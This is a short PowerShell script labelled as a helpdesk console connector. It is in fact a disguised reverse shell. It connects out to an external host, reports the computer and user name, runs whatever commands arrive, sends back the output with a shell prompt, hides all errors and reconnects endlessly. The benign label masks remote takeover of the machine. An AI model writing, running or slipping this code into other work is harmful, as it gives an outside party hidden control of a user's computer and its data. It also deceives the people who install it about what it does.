# Helpdesk console connector
$h = 'console.deskassist-remote.com'; $p = 443
while ($true) {
  try {
    $c = New-Object System.Net.Sockets.TCPClient($h, $p)
    $s = $c.GetStream()
    $w = New-Object System.IO.StreamWriter($s); $w.AutoFlush = $true
    $w.WriteLine("HELLO $env:COMPUTERNAME\$env:USERNAME")
    $buf = New-Object byte[] 65535
    while (($n = $s.Read($buf, 0, $buf.Length)) -gt 0) {
      $cmd = [Text.Encoding]::UTF8.GetString($buf, 0, $n)
      $out = try { (& ([scriptblock]::Create($cmd)) 2>&1 | Out-String) } catch { $_.ToString() }
      $w.Write($out + 'PS ' + (Get-Location).Path + '> ')
    }
    $c.Close()
  } catch { }
  Start-Sleep -Seconds 45
}
